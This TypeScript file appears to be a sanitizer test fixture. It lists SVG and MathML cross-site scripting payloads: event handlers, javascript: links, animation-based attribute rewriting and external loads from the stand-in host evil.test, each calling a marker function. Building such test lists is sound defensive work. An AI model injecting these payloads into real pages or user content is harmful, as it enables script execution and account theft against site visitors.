import type { PayloadClass } from './payload.ts';

export const drawings: PayloadClass = {
  'a drawing that loads': '<svg onload=ran(this)><rect/></svg>',
  'a group that loads': '<svg xmlns="http://www.w3.org/2000/svg"><g onload="ran(this)"></g></svg>',
  'a link': '<svg><a href="javascript:ran(this)"><text y="20">một liên kết</text></a></svg>',
  'a link, former': '<svg><a xlink:href="javascript:ran(this)"><text y="20">một liên kết</text></a></svg>',
  'a link, another prefix':
    '<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="javascript:ran(this)"><text>x</text></a></svg>',
  'a link that is changed':
    '<svg><a><animate attributeName=href values="javascript:ran(this)"/><text y=20>x</text></a></svg>',
  'a link that is set':
    '<svg><a id=x href="/"><set attributeName="href" to="javascript:ran(this)"/><text y=20>x</text></a></svg>',
  'a link that is changed from elsewhere':
    '<svg><a id=x><text y=20>x</text></a><animate href=#x attributeName=xlink:href from=javascript:ran(this) to=1 /></svg>',
  'a handler that is set':
    '<svg><set attributeName="onmouseover" to="ran(this)"/><animate attributeName="onunload" to="ran(this)"/></svg>',
  'an animation that begins': '<svg><animate onbegin=ran(this) attributeName=x dur=1s></animate></svg>',
  'an animation that ends':
    '<svg><set attributeName=x onend=ran(this) onrepeat=ran(this) dur=1s></set></svg>',
  'an animation of a movement':
    '<svg><animateMotion onbegin=ran(this) path="M0,0"/><animateTransform onbegin=ran(this) attributeName=transform /></svg>',
  'what is used':
    '<svg><use href="http://evil.test/use.svg#x"/><use xlink:href="data:image/svg+xml,%3Csvg id=\'x\' onload=\'ran(0)\'/%3E#x"/></svg>',
  'a picture': '<svg><image href="http://evil.test/image.svg" onload=ran(this) onerror=ran(this) /></svg>',
  'a picture of a filter':
    '<svg><filter><feImage href="http://evil.test/filter.svg"><set attributeName="href" to="data:image/svg+xml,x"/></feImage></filter></svg>',
  'a style sheet':
    '<svg><style>@import "http://evil.test/svg.css"; * { fill: url(http://evil.test/fill.svg#x) }</style></svg>',
  'a paint':
    '<svg><rect fill="url(http://evil.test/paint.svg#x)" clip-path="url(http://evil.test/clip.svg#x)" cursor="url(http://evil.test/cursor.svg)"/></svg>',
  'a foreign object':
    '<svg><foreignObject><iframe src="javascript:top.ran(0)"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="ran(this)"></body></foreignObject></svg>',
  'a drawing in a drawing': '<svg><svg onload=ran(this)><svg><script>ran(0)</script></svg></svg></svg>',
  'a formula’s link':
    '<math href="javascript:ran(this)">x</math><math><mi xlink:href="javascript:ran(this)">x</mi></math>',
  'a formula’s action':
    '<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:ran(this)">x<mtext>http://evil.test</mtext></maction></math>',
  'a formula’s style':
    '<math><mtext style="background:url(http://evil.test/math)" onclick=ran(this)>x</mtext></math>',
};
